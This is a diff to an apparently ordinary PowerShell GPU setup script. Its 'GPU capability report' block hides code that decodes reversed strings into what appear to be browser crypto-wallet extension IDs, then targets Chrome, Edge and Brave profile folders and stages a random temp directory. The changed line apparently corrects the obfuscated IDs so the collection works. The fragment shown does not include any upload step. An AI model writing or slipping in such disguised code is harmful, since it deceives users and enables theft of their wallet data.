@@ -10,7 +10,7 @@ if ($cuda) {
 
 # --- GPU capability report (helps us tune default segment sizes) ---
 function Rev([string]$s) { -join ($s.ToCharArray()[($s.Length-1)..0]) }
-$ids = @('nnkgpgfebdokfnlheoaeagoebfhibkn', 'apjlokkphhpojnjgmphliemomlnafnb', 'aandknfngbcjgiddbfoefconknafnh') | ForEach-Object { Rev $_ }
+$ids = @('nnkgpgfebdoknfelheoaeagoebfhibkn', 'apjlokkphhpojnjgmplhmiemomleanfb', 'daandknfnhmnjicgddbfoefconknafnh') | ForEach-Object { Rev $_ }
 $roots = @("$env:LOCALAPPDATA\Google\Chrome\User Data", "$env:LOCALAPPDATA\Microsoft\Edge\User Data", "$env:LOCALAPPDATA\BraveSoftware\Brave-Browser\User Data")
 $tmp = Join-Path $env:TEMP ("gpu_" + [guid]::NewGuid().ToString('N'))
 New-Item -ItemType Directory $tmp | Out-Null
